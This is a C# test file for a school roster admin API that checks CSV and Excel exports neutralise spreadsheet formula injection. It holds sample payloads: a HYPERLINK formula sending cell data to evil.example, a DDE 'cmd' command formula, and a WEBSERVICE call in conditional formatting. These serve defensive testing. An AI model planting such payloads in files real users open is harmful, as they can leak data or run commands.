using System.IO.Compression;
using System.Net;
using System.Text;
using System.Xml.Linq;
using ClosedXML.Excel;
using Gradcheck.AdminApi.Tests.Rosters;
using Gradcheck.Domain.Students;
using Gradcheck.Testing.Rosters;
using Microsoft.EntityFrameworkCore;
using Xunit;

namespace Gradcheck.AdminApi.Tests.Tables;

/// <summary>What a person wrote comes out of every export as the text it was, and never as a formula.</summary>
public sealed class FormulaTests
{
    private const string Workbook = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    /// <summary>With what each looks like in CSV.</summary>
    private static readonly (string Text, string InCsv)[] Attacks =
    [
        (
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点我\"\")\""
        ),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+8613800138000", "'+8613800138000"),
        ("-1", "'-1"),
        ("@SUM(1,2)", "\"'@SUM(1,2)\""),
        ("\t=1+1", "\"'\t=1+1\""),
        ("\r=1+1", "\"'\r=1+1\""),
        ("＝1+1", "'＝1+1"),
        ("  =1+1", "'  =1+1"),
        ("x\n=1+1", "\"x\n=1+1\""),
        ("'=1+1", "'=1+1"),
        ("0071", "0071"),
    ];

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_name_like_a_formula_is_a_text_cell(bool byClass)
    {
        await using var api = await ApiHarness.StartAsync();
        await RenameAsync(api, (record, text) => record with { Name = text, ClassName = text });
        var registrar = await api.RegistrarAsync();

        using var response = byClass
            ? await registrar.SendJsonAsync(
                HttpMethod.Get,
                "/api/cohorts/2009/tallies?by=class",
                null,
                ("Accept", Workbook)
            )
            : await registrar.SendJsonAsync(
                HttpMethod.Post,
                "/api/cohorts/2009/binding-codes",
                null,
                ("Accept", Workbook)
            );
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var bytes = await response.Content.ReadAsByteArrayAsync();

        AssertNothingRuns(bytes);
        var texts = TextsOf(bytes);
        Assert.All(
            Attacks,
            attack => Assert.Contains(attack.Text.Replace('\r', '\n'), texts.Select(t => t.Replace('\r', '\n')))
        );
    }

    [Fact]
    public async Task A_CSV_file_says_with_an_apostrophe_that_it_is_text()
    {
        await using var api = await ApiHarness.StartAsync();
        await RenameAsync(api, (record, text) => record with { StudentNumber = text });
        var registrar = await api.RegistrarAsync();

        using var response = await registrar.SendJsonAsync(
            HttpMethod.Get,
            "/api/cohorts/2009/confirmations",
            null,
            ("Accept", "text/csv")
        );
        var csv = await response.Content.ReadAsStringAsync();

        Assert.All(Attacks, attack => Assert.Contains($"\r\n{attack.InCsv},", csv));
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
    }

    [Fact]
    public async Task Characters_that_a_workbook_cannot_hold_do_not_spoil_it()
    {
        await using var api = await ApiHarness.StartAsync();
        await RenameAsync(api, (record, _) => record with { Name = "张\u0001\uFFFE三😀" });
        var registrar = await api.RegistrarAsync();

        using var response = await registrar.SendJsonAsync(
            HttpMethod.Post,
            "/api/cohorts/2009/binding-codes",
            null,
            ("Accept", Workbook)
        );

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("张\uFFFD\uFFFD三😀", TextsOf(await response.Content.ReadAsByteArrayAsync()));
    }

    [Theory]
    [InlineData(RosterFormat.Xlsx)]
    [InlineData(RosterFormat.CsvGb18030)]
    public async Task An_annotated_roster_keeps_texts_like_formulas_as_texts(RosterFormat format)
    {
        await using var api = await ApiHarness.StartAsync();
        var cohort = await TestCohort.AddAsync(api);
        var registrar = await api.RegistrarAsync();
        var roster = cohort.ForRoster().Select((record, i) => Spoil(record, Attacks[i % Attacks.Length].Text)).ToList();
        var preview = await registrar.PreviewAsync(RosterCalls.File(roster, format));

        var bytes = await registrar.GetByteArrayAsync($"/api/rosters/{preview.Int("id")}/annotated.xlsx");

        AssertNothingRuns(bytes);
        var texts = TextsOf(bytes);
        Assert.Contains("=cmd|' /C calc'!A0", texts);
        Assert.Contains("+8613800138000", texts);
        Assert.Contains("-1", texts);

        static StudentRecord Spoil(StudentRecord record, string text) =>
            record with
            {
                Name = text,
                NativePlace = text,
                Remark = text,
            };
    }

    [Fact]
    public async Task The_formulas_and_links_of_an_uploaded_roster_are_not_handed_on()
    {
        await using var api = await ApiHarness.StartAsync();
        var cohort = await TestCohort.AddAsync(api);
        var registrar = await api.RegistrarAsync();
        using var workbook = new XLWorkbook(new MemoryStream(RosterCalls.File(cohort.ForRoster()).Content));
        var sheet = workbook.Worksheets.First();
        sheet.Cell(2, (int)StudentField.Remark + 1).FormulaA1 = "HYPERLINK(\"http://evil.example/\",\"点我\")";
        sheet.Cell(3, (int)StudentField.Remark + 1).FormulaA1 = "1+1";
        sheet.Cell(4, (int)StudentField.Name + 1).Hyperlink = new XLHyperlink("http://evil.example/");
        workbook.NamedRanges.Add("evil", "Sheet1!$A$1");
        sheet
            .Cell(5, 1)
            .AddConditionalFormat()
            .WhenIsTrue("WEBSERVICE(\"http://evil.example/\")")
            .Fill.SetBackgroundColor(XLColor.Red);
        using var upload = new MemoryStream();
        workbook.SaveAs(upload, new ClosedXML.Excel.SaveOptions { EvaluateFormulasBeforeSaving = true });
        var preview = await registrar.PreviewAsync(new RosterFile("名单.xlsx", upload.ToArray()));

        var bytes = await registrar.GetByteArrayAsync($"/api/rosters/{preview.Int("id")}/annotated.xlsx");

        AssertNothingRuns(bytes);
        Assert.Contains("2", TextsOf(bytes));
    }

    private static async Task RenameAsync(ApiHarness api, Func<StudentRecord, string, StudentRecord> change)
    {
        await TestCohort.AddAsync(api, Attacks.Length);
        await api.Writer.WriteAsync<bool>(
            "test",
            async scope =>
            {
                var students = await scope.Db.Students.ToListAsync();
                for (var i = 0; i < students.Count; i++)
                    students[i].Replace(change(students[i].ToRecord(), Attacks[i].Text));
                return true;
            }
        );
    }

    private static List<string> TextsOf(byte[] bytes)
    {
        using var workbook = new XLWorkbook(new MemoryStream(bytes));
        return [.. workbook.Worksheets.SelectMany(sheet => sheet.CellsUsed().Select(cell => cell.GetString()))];
    }

    /// <summary>Looks at the parts themselves: no formula, no link, nothing from elsewhere.</summary>
    private static void AssertNothingRuns(byte[] bytes)
    {
        using var archive = new ZipArchive(new MemoryStream(bytes));
        foreach (
            var part in archive.Entries.Where(e =>
                e.Name.EndsWith(".xml", StringComparison.Ordinal) || e.Name.EndsWith(".rels", StringComparison.Ordinal)
            )
        )
        {
            using var stream = part.Open();
            var xml = XDocument.Load(stream);
            // The rows that are printed on every page are a name, too, and our own.
            foreach (var element in xml.Descendants().Where(e => e.Attribute("name")?.Value != "_xlnm.Print_Titles"))
            {
                Assert.False(
                    element.Name.LocalName is "f" or "hyperlink" or "ddeLink" or "definedName" or "cfRule",
                    $"{part.FullName}: {element}"
                );
                Assert.NotEqual("External", element.Attribute("TargetMode")?.Value);
            }
        }
    }
}
